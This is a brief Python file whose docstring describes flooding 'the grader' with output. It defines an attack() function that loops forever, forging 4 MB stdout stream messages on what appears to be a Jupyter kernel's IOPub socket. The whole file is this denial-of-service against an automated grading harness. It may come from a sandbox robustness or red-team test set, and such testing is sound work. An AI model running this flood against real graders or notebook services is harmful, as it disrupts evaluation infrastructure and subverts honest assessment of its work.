"""Floods the grader with outputs, as fast as it can.

kind: kernel
"""

def attack():
    text = "x" * 4_000_000
    while True: forge(APP.iopub_socket, "stream", {"name": "stdout", "text": text})
